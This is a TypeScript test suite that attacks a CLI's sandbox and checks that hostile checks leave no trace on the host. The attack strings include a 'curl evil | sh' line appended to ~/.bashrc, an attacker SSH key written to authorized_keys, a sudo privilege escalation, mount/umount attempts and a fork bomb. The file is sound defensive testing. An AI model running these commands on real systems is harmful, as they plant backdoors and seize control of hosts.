/**
 * A hostile PR against the real CLI, as root and as an unprivileged user.
 *
 * Every test runs `node src/bin/quorum.ts verify ...` (a real process, real exit code) with
 * checks that attack the machine, and asserts from the host side that the attack left no trace:
 * files that must not exist, directories that must not change, a socket or TCP server that must
 * have seen no connection, processes that must be gone. What a check prints is used only to see
 * that the attack ran, and for the capability test, where the check reports its own credentials.
 *
 * DESIGN.md, "What must always hold", 3 and 9: nothing a check writes reaches the real trees; a
 * check can write only its own sandbox, HOME and TMPDIR, reaches no daemon socket, holds no
 * capability and cannot gain privileges, whether the gate runs as root or not.
 *
 * Needs root (it creates a throwaway user `qhostile<random>`, see test/support/as-user.ts);
 * skipped otherwise, and where overlay sandboxes are unavailable.
 */
import assert from 'node:assert/strict'
import { randomInt } from 'node:crypto'
import {
  chmodSync,
  chownSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  readlinkSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { createServer, type Server } from 'node:net'
import { join } from 'node:path'
import { describe, test, type TestContext } from 'node:test'
import type { Report } from '../../src/engine/types.ts'
import {
  actorEnv,
  findTool,
  giveTo,
  grantSudo,
  hostileSkipReason,
  killPids,
  overlaySkipReason,
  pidsWithArgv,
  randomName,
  runAs,
  runCli,
  scratchBase,
  withActor,
  type Actor,
  type ActorKind,
  type CliResult,
} from '../support/as-user.ts'
import { removeDelegatedCgroups } from '../support/cgroup-cleanup.ts'
import { diskUsage } from '../support/disk-usage.ts'

const SKIP = hostileSkipReason()
const ACTORS: readonly ActorKind[] = ['root', 'user']
type Kind = 'overlay' | 'copy'

/** One test's directories, all owned by the actor (so that only containment can stop a write). */
interface Arena {
  dir: string
  /** The candidate tree (--candidate). */
  cand: string
  /** The config's directory; the config is cfg/quorum.yml. */
  cfg: string
  config: string
  /** --live of --promote. */
  live: string
  /** The CLI's working directory. */
  work: string
  /** The CLI's TMPDIR: the workspace and the logs go here. */
  tmp: string
  json: string
}

const CONNECT_CJS = `// node connect.cjs <unix socket path | host:port> <tag>: one connection attempt, tells how it went
const net = require('node:net')
const [target, tag] = process.argv.slice(2)
const colon = target.lastIndexOf(':')
const s = target.startsWith('/') ? net.connect(target) : net.connect(Number(target.slice(colon + 1)), target.slice(0, colon))
s.setTimeout(5000, () => { console.log('connect: timeout'); s.destroy() })
s.on('connect', () => { console.log('connect: connected'); s.end(tag) })
s.on('error', (e) => console.log('connect: ' + e.code))
`

const HOG_CJS = `// node hog.cjs: touches 512 MiB, 1 MiB at a time
const kept = []
for (let i = 0; i < 512; i++) kept.push(Buffer.alloc(1 << 20, 1))
console.log('allocated', kept.length, 'MiB')
`

function makeArena(t: TestContext, a: Actor): Arena {
  const dir = mkdtempSync(join(scratchBase(), 'arena-'))
  t.after(() => rmSync(dir, { recursive: true, force: true, maxRetries: 2 }))
  chmodSync(dir, 0o755)
  const arena: Arena = {
    dir,
    cand: join(dir, 'cand'),
    cfg: join(dir, 'cfg'),
    config: join(dir, 'cfg', 'quorum.yml'),
    live: join(dir, 'live'),
    work: join(dir, 'work'),
    tmp: join(dir, 'tmp'),
    json: join(dir, 'work', 'report.json'),
  }
  for (const d of [arena.cand, arena.cfg, arena.live, arena.work, arena.tmp]) mkdirSync(d)
  writeFileSync(join(arena.cand, 'a.txt'), 'original candidate\n')
  writeFileSync(join(arena.cand, 'connect.cjs'), CONNECT_CJS)
  writeFileSync(join(arena.cand, 'hog.cjs'), HOG_CJS)
  writeFileSync(join(arena.live, 'a.txt'), 'live\n')
  writeFileSync(arena.config, 'checks: []\n')
  giveTo(a, dir)
  return arena
}

function writeAs(a: Actor, path: string, text: string): void {
  writeFileSync(path, text)
  if (a.kind === 'user') chownSync(path, a.uid, a.gid)
}

/** Single-quotes text for sh. */
function shq(text: string): string {
  return `'${text.replaceAll("'", `'\\''`)}'`
}

/** The attack as a shell check: `sh -c '<script>'; <then>`. The script starts with a marker. */
function attack(lines: string[], then = 'true'): string {
  return `sh -c ${shq(['echo attack-ran', ...lines].join('\n'))}; ${then}`
}

/**
 * The report's own word that pids_max and memory_mb could not be enforced (no cgroup for this
 * user on this machine: cgroup v1 without delegation), or null. Only then do those tests skip.
 */
function noCgroup(g: { r: { stdout: string } }): string | null {
  return /pids_max and memory_mb were not enforced: (.*)/.exec(g.r.stdout)?.[1] ?? null
}

/** quorum.yml text; every scalar is JSON, which YAML reads as is. */
function yaml(
  checks: Array<Record<string, unknown>>,
  top: Record<string, unknown> = { mode: 'pass-fail' },
): string {
  const lines = Object.entries(top).map(([k, v]) => `${k}: ${JSON.stringify(v)}`)
  lines.push('checks:')
  for (const check of checks) {
    Object.entries(check).forEach(([k, v], i) => {
      lines.push(`${i === 0 ? '  - ' : '    '}${k}: ${JSON.stringify(v)}`)
    })
  }
  return `${lines.join('\n')}\n`
}

interface GateRun {
  r: CliResult
  report: Report | null
  /** For assertion messages: exit code, stderr and stdout. */
  why: string
}

async function gate(
  a: Actor,
  arena: Arena,
  config: string | null,
  o: {
    sandbox: Kind
    args?: string[]
    timeoutMs?: number
    onTick?: () => void
    tickMs?: number
  },
): Promise<GateRun> {
  const args = ['verify', '--candidate', arena.cand, '--json', arena.json, '--sandbox', o.sandbox]
  if (config !== null) {
    writeAs(a, arena.config, config)
    args.push('--config', arena.config)
  }
  args.push(...(o.args ?? []))
  const r = await runCli(a, args, {
    cwd: arena.work,
    env: actorEnv(a, arena.tmp),
    timeoutMs: o.timeoutMs ?? 120_000,
    ...(o.onTick ? { onTick: o.onTick } : {}),
    ...(o.tickMs ? { tickMs: o.tickMs } : {}),
  })
  const report = existsSync(arena.json)
    ? (JSON.parse(readFileSync(arena.json, 'utf8')) as Report)
    : null
  const why = `exit ${r.status ?? r.signal}${r.timedOut ? ' (killed: CLI over its test budget)' : ''}\n--- stderr\n${r.stderr.slice(-3000)}\n--- stdout\n${r.stdout.slice(-3000)}`
  return { r, report, why }
}

function candidateRun(g: GateRun, check: string) {
  assert.ok(g.report, `no JSON report\n${g.why}`)
  const found = g.report.checks.find((c) => c.name === check)
  assert.ok(found, `no check ${check} in the report\n${g.why}`)
  const run = found.candidate
  assert.ok(run, `check ${check} has no candidate run\n${g.why}`)
  return run
}

function outputOf(g: GateRun, check: string): string {
  const run = candidateRun(g, check)
  return `${run.output.head}${run.output.tail}`
}

/** The check really ran its attack (else a host-side "nothing happened" would prove nothing). */
function assertRan(g: GateRun, check: string): void {
  const out = outputOf(g, check)
  assert.match(out, /attack-ran/, `the attack of ${check} did not run\n${out}\n${g.why}`)
}

/** Every path under dir with its content (files) or target (links), for before/after equality. */
function snapshot(dir: string): Record<string, string> {
  const out: Record<string, string> = {}
  const walk = (rel: string) => {
    for (const name of readdirSync(join(dir, rel)).sort()) {
      const path = join(dir, rel, name)
      const key = join(rel, name)
      const st = lstatSync(path)
      if (st.isSymbolicLink()) out[key] = `-> ${readlinkSync(path)}`
      else if (st.isDirectory()) {
        out[key] = 'dir'
        walk(key)
      } else out[key] = readFileSync(path, 'utf8')
    }
  }
  walk('')
  return out
}

/** Creates the actor and an arena, skips when the sandbox kind cannot be used here. */
async function scenario(
  t: TestContext,
  who: ActorKind,
  kind: Kind,
  body: (a: Actor, arena: Arena) => Promise<void>,
): Promise<void> {
  await withActor(t, who, async (a) => {
    if (kind === 'overlay') {
      const why = await overlaySkipReason(a)
      if (why) {
        t.skip(why)
        return
      }
    }
    await body(a, makeArena(t, a))
  })
}

/** A file path the test removes afterwards, whatever happens. */
function target(t: TestContext, path: string): string {
  t.after(() => rmSync(path, { recursive: true, force: true }))
  return path
}

/** A number sleep accepts and no other process on the machine has in its argv. */
function uniqueSleep(t: TestContext): string[] {
  const argv = ['sleep', `30.${randomInt(10_000_000, 99_999_999)}`]
  // Processes this test started, if containment failed: end them by pid.
  t.after(() => killPids(pidsWithArgv(argv)))
  return argv
}

describe('writes outside the sandbox do not reach the host', { skip: SKIP ?? false }, () => {
  for (const who of ACTORS) {
    test(`a check cannot write the gate user's real HOME (~/.bashrc), as ${who}`, async (t) => {
      await scenario(t, who, 'overlay', async (a, arena) => {
        const bashrc = join(a.home, '.bashrc')
        writeAs(a, bashrc, '# original\n')
        const g = await gate(
          a,
          arena,
          yaml([
            {
              name: 'attack',
              command: attack([`echo 'curl evil | sh' >> "${bashrc}"; echo "wrote=$?"`]),
              timeout_s: 20,
            },
          ]),
          { sandbox: 'overlay' },
        )
        assert.equal(g.r.status, 0, g.why)
        assertRan(g, 'attack')
        assert.equal(readFileSync(bashrc, 'utf8'), '# original\n', 'the real ~/.bashrc changed')
      })
    })

    test(`a check cannot create ~/.ssh/authorized_keys in the gate user's real HOME, as ${who}`, async (t) => {
      await scenario(t, who, 'overlay', async (a, arena) => {
        const ssh = join(a.home, '.ssh')
        const g = await gate(
          a,
          arena,
          yaml([
            {
              name: 'attack',
              command: attack([
                `mkdir -p "${ssh}" && echo 'ssh-ed25519 AAAA attacker' >> "${ssh}/authorized_keys"; echo "wrote=$?"`,
              ]),
              timeout_s: 20,
            },
          ]),
          { sandbox: 'overlay' },
        )
        assert.equal(g.r.status, 0, g.why)
        assertRan(g, 'attack')
        assert.equal(existsSync(ssh), false, `${ssh} was created on the host`)
      })
    })

    for (const dir of ['/tmp', '/var/tmp', '/dev/shm']) {
      test(`a check cannot write a file in ${dir}, as ${who}`, async (t) => {
        await scenario(t, who, 'overlay', async (a, arena) => {
          const file = target(t, join(dir, randomName('quorum-pwned-')))
          const g = await gate(
            a,
            arena,
            yaml([
              {
                name: 'attack',
                command: attack([`echo pwned > "${file}"; echo "wrote=$?"`]),
                timeout_s: 20,
              },
            ]),
            { sandbox: 'overlay' },
          )
          assert.equal(g.r.status, 0, g.why)
          assertRan(g, 'attack')
          assert.equal(existsSync(file), false, `${file} exists on the host`)
        })
      })
    }

    test(`a check cannot write the candidate's source directory by absolute path, as ${who}`, async (t) => {
      await scenario(t, who, 'overlay', async (a, arena) => {
        const config = yaml([
          {
            name: 'attack',
            command: attack([
              `echo pwned > "${arena.cand}/pwned"; echo "new=$?"`,
              `echo pwned >> "${arena.cand}/a.txt"; echo "append=$?"`,
            ]),
            timeout_s: 20,
          },
        ])
        const before = snapshot(arena.cand)
        const g = await gate(a, arena, config, { sandbox: 'overlay' })
        assert.equal(g.r.status, 0, g.why)
        assertRan(g, 'attack')
        assert.deepEqual(snapshot(arena.cand), before, 'the candidate source directory changed')
      })
    })

    test(`a check cannot write the config file's directory, as ${who}`, async (t) => {
      await scenario(t, who, 'overlay', async (a, arena) => {
        const config = yaml([
          {
            name: 'attack',
            command: attack([
              `echo pwned > "${arena.cfg}/pwned"; echo "new=$?"`,
              `echo '  - {name: planted, command: "true"}' >> "${arena.config}"; echo "append=$?"`,
            ]),
            timeout_s: 20,
          },
        ])
        writeAs(a, arena.config, config)
        const before = snapshot(arena.cfg)
        const g = await gate(a, arena, config, { sandbox: 'overlay' })
        assert.equal(g.r.status, 0, g.why)
        assertRan(g, 'attack')
        assert.deepEqual(snapshot(arena.cfg), before, 'the config directory changed')
      })
    })

    test(`a blocked check cannot write the --live directory of --promote, as ${who}`, async (t) => {
      await scenario(t, who, 'overlay', async (a, arena) => {
        const before = snapshot(arena.live)
        const g = await gate(
          a,
          arena,
          yaml([
            {
              name: 'attack',
              command: attack(
                [
                  `echo pwned > "${arena.live}/pwned"; echo "new=$?"`,
                  `echo pwned >> "${arena.live}/a.txt"; echo "append=$?"`,
                ],
                'false',
              ),
              timeout_s: 20,
            },
          ]),
          { sandbox: 'overlay', args: ['--promote', '--live', arena.live] },
        )
        assert.equal(g.r.status, 1, g.why)
        assert.equal(g.report?.verdict, 'block', g.why)
        assertRan(g, 'attack')
        assert.deepEqual(snapshot(arena.live), before, 'the live directory changed')
      })
    })
  }
})

describe('a check reaches no daemon socket', { skip: SKIP ?? false }, () => {
  for (const who of ACTORS) {
    test(`a check cannot connect to a world-writable Unix socket under /run, as ${who}`, async (t) => {
      await scenario(t, who, 'overlay', async (a, arena) => {
        const dirs = ['/run']
        if (realpathSync('/var/run') !== realpathSync('/run')) dirs.push('/var/run')
        const seen: string[] = []
        const paths: string[] = []
        for (const dir of dirs) {
          const path = join(dir, `${randomName('quorum-test-')}.sock`)
          const server = createServer((c) => {
            seen.push(path)
            c.destroy()
          })
          t.after(() => {
            server.close()
            rmSync(path, { force: true })
          })
          await listen(server, path)
          chmodSync(path, 0o666)
          paths.push(path)
        }
        const g = await gate(
          a,
          arena,
          yaml([
            {
              name: 'attack',
              command: attack(paths.map((p) => `"${a.node}" connect.cjs "${p}" attack`)),
              timeout_s: 30,
            },
          ]),
          { sandbox: 'overlay' },
        )
        await new Promise((r) => setTimeout(r, 200))
        assert.equal(g.r.status, 0, g.why)
        assertRan(g, 'attack')
        assert.deepEqual(
          seen,
          [],
          `the check connected to a daemon socket; it said:\n${outputOf(g, 'attack')}`,
        )
      })
    })
  }
})

describe('a check holds no capability and cannot gain privileges', { skip: SKIP ?? false }, () => {
  for (const kind of ['overlay', 'copy'] as const) {
    for (const who of ACTORS) {
      // The copy sandbox shares the host's mount namespace: a check that still had its
      // capabilities there would really unmount the host's /proc, so it is not asked to try.
      const what = kind === 'overlay' ? 'remount / or unmount /proc' : 'remount / or mknod'
      test(`a check has no capabilities, no_new_privs set, and cannot ${what}, as ${who}, ${kind} sandbox`, async (t) => {
        await scenario(t, who, kind, async (a, arena) => {
          const before = snapshot(arena.cand)
          const g = await gate(
            a,
            arena,
            yaml([
              {
                name: 'creds',
                command: attack([
                  'grep -E "^(CapEff|CapPrm|CapBnd|CapAmb|NoNewPrivs):" /proc/self/status',
                  // / is already read-write on the host: a remount that "succeeds" changes nothing.
                  'mount -o remount,rw / 2>&1; echo "remount=$?"',
                  kind === 'overlay' ? 'umount /proc 2>&1; echo "umount=$?"' : '',
                  // A device node in the check's own tree: needs CAP_MKNOD, harms nothing.
                  'mknod ./null-copy c 1 3 2>&1; echo "mknod=$?"',
                  `echo pwned > "${arena.cand}/pwned-caps"; echo "cand=$?"`,
                ]),
                timeout_s: 20,
              },
            ]),
            { sandbox: kind },
          )
          assert.equal(g.r.status, 0, g.why)
          assertRan(g, 'creds')
          const out = outputOf(g, 'creds')
          const field = (key: string) => new RegExp(`^${key}:\\s*(\\S+)`, 'm').exec(out)?.[1]
          const code = (key: string) => new RegExp(`^${key}=(\\d+)`, 'm').exec(out)?.[1]
          const status = (c: string | undefined) =>
            c === undefined ? 'not reported' : c === '0' ? 'succeeded' : 'failed'
          const zero = '0000000000000000'
          // Without a namespace of its own (copy sandbox) an unprivileged process cannot shrink
          // its bounding set (that needs CAP_SETPCAP); with no_new_privs and no permitted,
          // effective or ambient capability it can never use it either.
          const bnd = kind === 'copy' && a.kind === 'user' ? field('CapBnd') : zero
          assert.deepEqual(
            {
              CapEff: field('CapEff'),
              CapPrm: field('CapPrm'),
              CapBnd: field('CapBnd'),
              CapAmb: field('CapAmb'),
              NoNewPrivs: field('NoNewPrivs'),
              'mount -o remount,rw /': status(code('remount')),
              'umount /proc': kind === 'overlay' ? status(code('umount')) : 'not asked',
              'mknod c 1 3': status(code('mknod')),
            },
            {
              CapEff: zero,
              CapPrm: zero,
              CapBnd: bnd,
              CapAmb: zero,
              NoNewPrivs: '1',
              'mount -o remount,rw /': 'failed',
              'umount /proc': kind === 'overlay' ? 'failed' : 'not asked',
              'mknod c 1 3': 'failed',
            },
            `the check said:\n${out}`,
          )
          // The copy sandbox is a plain copy in the host's mount namespace (README: it cannot
          // stop writes by absolute path); the caps above are what this test asks of it.
          if (kind === 'overlay') {
            assert.deepEqual(snapshot(arena.cand), before, 'the candidate source directory changed')
          }
        })
      })
    }
  }

  const sudo = findTool('sudo')
  const noSudo = sudo === null ? 'sudo is not installed (CI installs it)' : false
  for (const kind of ['overlay', 'copy'] as const) {
    for (const who of ACTORS) {
      test(
        `a check cannot gain root through sudo (NOPASSWD), as ${who}, ${kind} sandbox`,
        { skip: noSudo },
        async (t) => {
          await scenario(t, who, kind, async (a, arena) => {
            if (a.kind === 'user') {
              grantSudo(a)
              // The entry works outside the gate: only the sandbox can stop it inside.
              const pre = await runAs(a, [sudo!, '-n', 'true'], {
                cwd: '/',
                env: actorEnv(a, arena.tmp),
                timeoutMs: 20_000,
              })
              assert.equal(pre.status, 0, `sudo -n true fails outside the gate: ${pre.stderr}`)
            }
            const file = target(t, join('/root', randomName('quorum-pwned-')))
            const g = await gate(
              a,
              arena,
              yaml([
                {
                  name: 'attack',
                  command: attack([`${sudo} -n touch "${file}" 2>&1; echo "sudo=$?"`]),
                  timeout_s: 20,
                },
              ]),
              { sandbox: kind },
            )
            assert.equal(g.r.status, 0, g.why)
            assertRan(g, 'attack')
            assert.equal(existsSync(file), false, `${file} was created: the check became root`)
          })
        },
      )
    }
  }
})

describe('network: none', { skip: SKIP ?? false }, () => {
  for (const who of ACTORS) {
    test(`a check with network: none cannot connect to a TCP server on 127.0.0.1 while one without it can, as ${who}`, async (t) => {
      await scenario(t, who, 'overlay', async (a, arena) => {
        const tags: string[] = []
        const server = createServer((c) => {
          let data = ''
          c.setEncoding('utf8')
          c.on('data', (d: string) => (data += d))
          c.on('end', () => {
            tags.push(data)
            c.destroy()
          })
          c.on('error', () => undefined)
        })
        t.after(() => server.close())
        await listen(server, 0, '127.0.0.1')
        const address = server.address()
        assert.ok(address && typeof address === 'object')
        const to = `127.0.0.1:${address.port}`
        const g = await gate(
          a,
          arena,
          yaml([
            {
              name: 'isolated',
              command: attack([`"${a.node}" connect.cjs ${to} isolated`]),
              timeout_s: 30,
              network: 'none',
            },
            {
              name: 'open',
              command: attack([`"${a.node}" connect.cjs ${to} open`]),
              timeout_s: 30,
            },
          ]),
          { sandbox: 'overlay' },
        )
        await new Promise((r) => setTimeout(r, 200))
        assert.equal(g.r.status, 0, g.why)
        assertRan(g, 'isolated')
        assertRan(g, 'open')
        assert.deepEqual(
          tags.sort(),
          ['open'],
          `isolated said: ${outputOf(g, 'isolated')}\nopen said: ${outputOf(g, 'open')}`,
        )
      })
    })
  }
})

describe('resource limits', { skip: SKIP ?? false }, () => {
  for (const who of ACTORS) {
    test(`a fork bomb under pids_max: 50 stays under 50 processes, ends within its budget and leaves nothing, as ${who}`, async (t) => {
      await scenario(t, who, 'overlay', async (a, arena) => {
        const b = await forkBomb(t, a, arena, [])
        if (noCgroup(b.g)) return t.skip(`no cgroup for ${who} here: ${noCgroup(b.g)}`)
        assertBombContained(b)
      })
    })

    test(`a check under disk_mb: 8 cannot write 64 MB, and the host disk under the workspace does not get it, as ${who}`, async (t) => {
      await scenario(t, who, 'overlay', async (a, arena) => {
        let peak = 0
        const g = await gate(
          a,
          arena,
          yaml([
            {
              name: 'fill',
              command: attack(
                [
                  'dd if=/dev/zero of=big bs=1M count=64 2>&1; r=$?',
                  // Keep the file a moment, so that the host-side sampling cannot miss it.
                  'sleep 2; exit $r',
                ],
                'exit $?',
              ),
              timeout_s: 30,
              disk_mb: 8,
            },
          ]),
          {
            sandbox: 'overlay',
            tickMs: 100,
            onTick: () => {
              peak = Math.max(peak, diskUsage(arena.tmp))
            },
          },
        )
        assert.equal(g.r.status, 1, g.why)
        assertRan(g, 'fill')
        assert.notEqual(candidateRun(g, 'fill').outcome, 'PASSED')
        assert.match(outputOf(g, 'fill'), /No space left/)
        assert.ok(
          peak < 32 * 1024 * 1024,
          `${(peak / 1024 / 1024).toFixed(1)} MiB landed under the workspace`,
        )
      })
    })

    test(`a check under memory_mb: 64 that touches 512 MiB is CRASHED, as ${who}`, async (t) => {
      await scenario(t, who, 'overlay', async (a, arena) => {
        const g = await gate(
          a,
          arena,
          yaml([{ name: 'hog', command: `"${a.node}" hog.cjs`, timeout_s: 30, memory_mb: 64 }]),
          { sandbox: 'overlay' },
        )
        if (noCgroup(g)) return t.skip(`no cgroup for ${who} here: ${noCgroup(g)}`)
        assert.equal(g.r.status, 1, g.why)
        const run = candidateRun(g, 'hog')
        assert.equal(run.outcome, 'CRASHED', `${run.reason}\n${g.why}`)
        assert.doesNotMatch(outputOf(g, 'hog'), /allocated/)
      })
    })

    test(`a top-level memory_mb: 64 is the default of every check, as ${who}`, async (t) => {
      await scenario(t, who, 'overlay', async (a, arena) => {
        const g = await gate(
          a,
          arena,
          yaml([{ name: 'hog', command: `"${a.node}" hog.cjs`, timeout_s: 30 }], {
            mode: 'pass-fail',
            memory_mb: 64,
          }),
          { sandbox: 'overlay' },
        )
        if (noCgroup(g)) return t.skip(`no cgroup for ${who} here: ${noCgroup(g)}`)
        assert.equal(g.r.status, 1, g.why)
        const run = candidateRun(g, 'hog')
        assert.equal(run.outcome, 'CRASHED', `${run.reason}\n${g.why}`)
        assert.doesNotMatch(outputOf(g, 'hog'), /allocated/)
      })
    })
  }
})

describe('limits for an ordinary user through sudo', { skip: SKIP ?? false }, () => {
  test('with --cgroup-sudo, a user with passwordless sudo gets a cgroup and a fork bomb stays under pids_max', async (t) => {
    if (findTool('sudo') === null) return t.skip('sudo is not installed (CI installs it)')
    await scenario(t, 'user', 'overlay', async (a, arena) => {
      grantSudo(a)
      t.after(() => removeDelegatedCgroups(a.uid))
      const b = await forkBomb(t, a, arena, ['--cgroup-sudo'])
      assert.equal(noCgroup(b.g), null, `the limits were not enforced\n${b.g.why}`)
      assertBombContained(b)
    })
  })
})

describe('nothing a check starts outlives the gate', { skip: SKIP ?? false }, () => {
  for (const kind of ['overlay', 'copy'] as const) {
    for (const who of ACTORS) {
      test(`a process a check started with setsid is gone when the gate returns, as ${who}, ${kind} sandbox`, async (t) => {
        await scenario(t, who, kind, async (a, arena) => {
          const sleep = uniqueSleep(t)
          const g = await gate(
            a,
            arena,
            yaml([
              {
                name: 'escape',
                command: attack([`setsid sh -c ${shq(sleep.join(' '))} &`, 'echo started']),
                timeout_s: 20,
              },
            ]),
            { sandbox: kind },
          )
          const left = pidsWithArgv(sleep)
          assert.equal(g.r.status, 0, g.why)
          assertRan(g, 'escape')
          assert.deepEqual(left, [], `"${sleep.join(' ')}" outlived the gate`)
        })
      })
    }
  }
})

describe('a function-checks module is imported inside a sandbox', { skip: SKIP ?? false }, () => {
  for (const who of ACTORS) {
    test(`the top-level code of a --checks module cannot write /tmp or the real HOME, as ${who}`, async (t) => {
      await scenario(t, who, 'overlay', async (a, arena) => {
        const inTmp = target(t, join('/tmp', randomName('quorum-pwned-')))
        const inHome = join(a.home, randomName('quorum-pwned-'))
        const module = join(arena.cfg, 'checks.mjs')
        writeAs(
          a,
          module,
          [
            "import { writeFileSync } from 'node:fs'",
            `for (const path of ${JSON.stringify([inTmp, inHome])}) {`,
            "  try { writeFileSync(path, 'written at import time\\n') } catch {}",
            '}',
            "export default [{ name: 'innocent', timeout_s: 20, run: () => true }]",
            '',
          ].join('\n'),
        )
        const g = await gate(a, arena, null, {
          sandbox: 'overlay',
          args: ['--checks', module],
        })
        assert.equal(g.r.status, 0, g.why)
        assert.equal(candidateRun(g, 'innocent').outcome, 'PASSED', g.why)
        assert.equal(existsSync(inTmp), false, `${inTmp} was written by the checks module`)
        assert.equal(existsSync(inHome), false, `${inHome} was written by the checks module`)
      })
    })
  }
})

function listen(server: Server, port: number | string, host?: string): Promise<void> {
  return new Promise((resolve, reject) => {
    server.once('error', reject)
    const done = () => {
      server.off('error', reject)
      resolve()
    }
    if (typeof port === 'string') server.listen(port, done)
    else server.listen(port, host, done)
  })
}

/** A check that starts 300 sleeps under pids_max: 50; the peak is counted from the host. */
async function forkBomb(t: TestContext, a: Actor, arena: Arena, args: string[]) {
  const sleep = uniqueSleep(t)
  const timeoutS = 10
  let peak = 0
  const g = await gate(
    a,
    arena,
    yaml([
      {
        name: 'bomb',
        command: attack([`for i in $(seq 300); do ${sleep.join(' ')} & done`, 'wait'], 'exit $?'),
        timeout_s: timeoutS,
        pids_max: 50,
      },
    ]),
    {
      sandbox: 'overlay',
      args,
      timeoutMs: 90_000,
      tickMs: 50,
      onTick: () => {
        peak = Math.max(peak, pidsWithArgv(sleep).length)
      },
    },
  )
  const left = pidsWithArgv(sleep)
  return { g, peak, left, timeoutS }
}

function assertBombContained(b: Awaited<ReturnType<typeof forkBomb>>): void {
  const { g, peak, left, timeoutS } = b
  assert.equal(g.r.status, 1, g.why)
  assertRan(g, 'bomb')
  assert.notEqual(candidateRun(g, 'bomb').outcome, 'PASSED')
  // Budget + 2 s of grace + the gate's own start and cleanup.
  assert.ok(g.r.durationMs < (timeoutS + 2 + 15) * 1000, `the gate took ${g.r.durationMs} ms`)
  assert.ok(peak < 50, `${peak} of the check's sleeps ran at once (pids_max: 50)`)
  assert.deepEqual(left, [], 'processes of the fork bomb outlived the gate')
}
